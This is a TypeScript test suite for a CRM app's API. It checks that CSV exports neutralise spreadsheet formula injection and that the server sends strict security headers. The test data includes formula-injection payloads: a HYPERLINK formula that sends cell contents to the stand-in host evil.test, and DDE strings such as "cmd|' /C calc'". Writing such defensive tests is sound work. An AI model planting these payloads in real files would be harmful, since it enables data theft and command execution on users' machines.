import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

import Papa from 'papaparse';

import { assignRole, createPerson, createStandardProject } from './support/fixtures';
import { startTestApp, TestApp } from './support/test-app';

const IMPORT = 'mutation($input: ImportRequirementsCsvInput!) { importRequirementsCsv(input: $input) { imported errors { row message } } }';
const CREATE = 'mutation($input: CreateRequirementInput!) { createRequirement(input: $input) { id } }';

/**
 * Texts a spreadsheet would run as formulas. TAB and CR, OWASP's other two triggers, cannot get
 * past the API's trimming of text fields; the domain spec of spreadsheetSafeCell covers them.
 */
const FORMULAS = ['=HYPERLINK("http://evil.test/?x="&A1,"Open")', "+1+cmd|' /C calc'!A0", '-2+3', "@SUM(1+1)*cmd|' /C calc'!A0"];

const rowsOf = (csv: string) => Papa.parse<string[]>(csv, { skipEmptyLines: true }).data;

describe('exports and page headers', () => {
  let api: TestApp;
  let token: string;
  let projectId: string;
  let webRoot: string;

  beforeAll(async () => {
    webRoot = mkdtempSync(join(tmpdir(), 'crm-web-root-'));
    writeFileSync(join(webRoot, 'index.html'), '<!doctype html><html><head><title>CRM</title></head><body><crm-root></crm-root></body></html>');
    // Production leaves X-SQL-Statements out; this app runs without SQL_STATS, as a server would.
    api = await startTestApp({ config: { webRoot }, sqlStats: false });
    ({ token } = await api.signUp('Export owner'));
    projectId = (await createStandardProject(api, token)).id;
  });
  afterAll(async () => {
    await api.close();
    rmSync(webRoot, { recursive: true, force: true });
  });

  it('exports requirements whose text starts with =, +, - or @ with a leading quote, so spreadsheets show text', async () => {
    for (const [index, formula] of FORMULAS.entries()) {
      await api.ok(CREATE, { input: { projectId, title: `Requirement ${index}`, description: formula, department: 'SALES', priority: 'MUST', gapNote: formula } }, token);
    }
    await api.ok(CREATE, { input: { projectId, title: 'Plain one', description: 'Leads go to the sales team', department: 'SALES', priority: 'SHOULD' } }, token);
    const csv = String((await api.ok('query($p: ID!) { exportRequirementsCsv(projectId: $p) }', { p: projectId }, token))['exportRequirementsCsv']);
    const [header, ...rows] = rowsOf(csv);
    expect(header).toEqual(['title', 'description', 'department', 'priority', 'status', 'stakeholder_email', 'gap_note']);
    const byTitle = new Map(rows.map((row) => [row[0], row]));
    FORMULAS.forEach((formula, index) => {
      const row = byTitle.get(`Requirement ${index}`)!;
      expect(row[1]).toBe(`'${formula}`);
      expect(row[6]).toBe(`'${formula}`);
    });
    expect(byTitle.get('Plain one')![1]).toBe('Leads go to the sales team');
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('imports requirements that start with = or - as the literal text, never as a formula', async () => {
    const csv = ['title,description,department,priority,gap_note', '"=SUM(1)",=SUM(1),sales,must,-5% churn', '@Budget,"+49 30 1234",marketing,could,'].join('\n');
    expect((await api.ok(IMPORT, { input: { projectId, csv } }, token))['importRequirementsCsv']).toEqual({ imported: 2, errors: [] });
    const stored = await api.query('SELECT title, description, gap_note FROM requirements WHERE project_id = $1 AND title IN ($2, $3) ORDER BY title', [projectId, '=SUM(1)', '@Budget']);
    expect(stored).toEqual([
      { title: '=SUM(1)', description: '=SUM(1)', gap_note: '-5% churn' },
      { title: '@Budget', description: '+49 30 1234', gap_note: '' },
    ]);
  });

  it('exports attendance whose session topic or person name starts with a formula character with a leading quote', async () => {
    const trainer = await createPerson(api, token, 'Tara Trainer');
    await assignRole(api, token, { projectId, roleKey: 'TRAINER', personId: trainer.id, allocationPercent: 20 });
    const learner = await createPerson(api, token, '=cmd|calc', { email: `formula.${Date.now()}@example.test` });
    const waveId = (await api.ok('mutation($input: CreateRolloutWaveInput!) { createRolloutWave(input: $input) { id } }', { input: { projectId, name: 'Nordics', scope: ['Nordics'], goLiveDate: '2027-05-03' } }, token))[
      'createRolloutWave'
    ].id;
    await api.ok(
      'mutation($input: ScheduleTrainingSessionInput!) { scheduleTrainingSession(input: $input) { id } }',
      { input: { waveId, topic: '@Pipeline review', startsAt: '2027-05-05T09:00:00Z', durationMinutes: 60, trainerId: trainer.id, inviteeIds: [learner.id] } },
      token,
    );
    const csv = String((await api.ok('query($w: ID!) { exportAttendanceCsv(waveId: $w) }', { w: waveId }, token))['exportAttendanceCsv']);
    const [header, row] = rowsOf(csv);
    expect(header).toEqual(['session', 'date', 'person', 'email', 'attendance']);
    expect(row).toEqual(["'@Pipeline review", '2027-05-05', "'=cmd|calc", learner.email, 'INVITED']);
  });

  it.each(['/', '/graphql'])('sends a strict Content-Security-Policy and the other security headers on %s', async (path) => {
    const response = path === '/' ? await fetch(`${api.url}/`) : await fetch(`${api.url}/graphql`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ query: '{ __typename }' }) });
    expect(response.status).toBe(200);
    const csp = response.headers.get('content-security-policy') ?? '';
    expect(csp).toContain("script-src 'self'");
    expect(csp).not.toMatch(/script-src[^;]*unsafe-inline/);
    expect(csp).toContain("frame-ancestors 'none'");
    expect(csp).toContain("object-src 'none'");
    expect(response.headers.get('x-content-type-options')).toBe('nosniff');
    expect(response.headers.get('referrer-policy')).toBe('no-referrer');
    expect(response.headers.get('x-frame-options')).toBe('DENY');
    // Served over plain HTTP: no HSTS (browsers would ignore it there anyway).
    expect(response.headers.get('strict-transport-security')).toBeNull();
    expect(response.headers.get('x-powered-by')).toBeNull();
  });

  it('sends no X-SQL-Statements header unless SQL_STATS=true', async () => {
    const response = await api.client.request('query($p: ID!) { project(id: $p) { id } }', { p: projectId }, token);
    expect(response.errors).toBeUndefined();
    expect(response.headers.get('x-sql-statements')).toBeNull();
    const stranger = await api.signUp('Stranger');
    const probe = await api.client.request('query($p: ID!) { project(id: $p) { id } }', { p: projectId }, stranger.token);
    expect(probe.headers.get('x-sql-statements')).toBeNull();
  });
});
